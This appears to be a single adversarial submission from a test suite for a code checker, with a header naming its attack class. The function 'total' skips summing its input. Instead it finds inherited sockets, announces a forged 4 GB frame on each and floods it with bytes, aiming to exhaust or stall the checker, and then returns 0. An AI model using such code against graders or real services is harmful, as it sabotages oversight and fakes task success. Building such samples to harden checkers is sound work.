# ---
# class: forged frames on the checker's link
# tries: announces a frame of 4 GB on every inherited socket, and sends it slowly, or in full
# success: a checker without memory or without end
# ---

# %% solution="total"
import os
import stat
import struct
import time


def total(values):
    began = time.monotonic()
    for descriptor in range(3, 100):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.set_blocking(descriptor, False)
                os.write(descriptor, struct.pack(">I", 2**32 - 1))
                while time.monotonic() < began + 3:
                    try:
                        os.write(descriptor, b"\x00" * 2**16)
                    except BlockingIOError:
                        time.sleep(0.01)
        except OSError:
            continue
    return 0
